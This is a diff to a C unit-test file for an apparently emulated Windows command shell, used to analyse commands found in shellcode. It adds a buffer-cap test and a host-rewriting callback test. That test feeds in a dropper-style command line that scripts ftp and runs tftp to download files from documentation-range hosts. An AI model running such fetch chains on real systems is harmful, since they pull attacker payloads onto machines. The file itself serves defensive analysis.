@@ -19,7 +19,7 @@
 #define NOT_RECOGNIZED(w) "'" w "' is not recognized as an internal or " \
 	"external command,\r\noperable program or batch file.\r\n"
 
-static char		 out[64 * 1024];
+static char		 out[256 * 1024];
 static size_t		 outlen;
 static char		 urls[16][512];
 static size_t		 nurls;
@@ -470,6 +470,11 @@ test_caps(void **state)
 	}
 	snprintf(line, sizeof(line), "echo %s >> g", big);
 	expect(line, "There is not enough space on the disk.\r\n");
+	/* One line's output is capped. */
+	for (i = 0, line[0] = '\0'; i < 8; i++)
+		strcat(line, "type g&");
+	assert_int_equal(run(line), 0);
+	assert_int_equal(outlen, SC_CMD_OUT_MAX);
 	/* A line longer than cmd.exe takes. */
 	memset(line, 'b', SC_CMD_LINE + 1);
 	outlen = 0;
@@ -502,6 +507,31 @@ test_host(void **state)
 	assert_false(sc_cmd_version_known("6.1.7601"));
 	expect("cd ..", "");
 	assert_string_equal(prompt(), "C:\\WINNT>");
+}
+
+static void
+host_rule(void *arg, const char *host, char *to, size_t len)
+{
+	(void)arg;
+	snprintf(to, len, "%s", strcmp(host, "0.0.0.0") == 0 ? host :
+	    "192.0.2.1");
+}
+
+/* A caller's own rule for addresses (the shell's: egress_host()). */
+static void
+test_host_callback(void **state)
+{
+	struct sc_cmd_ops	ops = { .fetch = fetch, .host = host_rule };
+
+	(void)state;
+	sc_cmd_free(st);
+	assert_non_null(st = sc_cmd_new(NULL, &ops, "198.51.100.7"));
+	nurls = 0;
+	expect("echo open 0.0.0.0 21>o&echo get a>>o&ftp -n -s:o&"
+	    "tftp -i 203.0.113.1 get b", "");
+	assert_int_equal(nurls, 2);
+	assert_string_equal(urls[0], "ftp://0.0.0.0:21/a");
+	assert_string_equal(urls[1], "tftp://192.0.2.1/b");
 }
 
 /* The analyser's use: command lines found in shellcode. */
@@ -539,6 +569,7 @@ main(void)
 		cmocka_unit_test_teardown(test_batch, teardown),
 		cmocka_unit_test_teardown(test_caps, teardown),
 		cmocka_unit_test_teardown(test_host, teardown),
+		cmocka_unit_test_teardown(test_host_callback, teardown),
 		cmocka_unit_test(test_downloads),
 	};
 
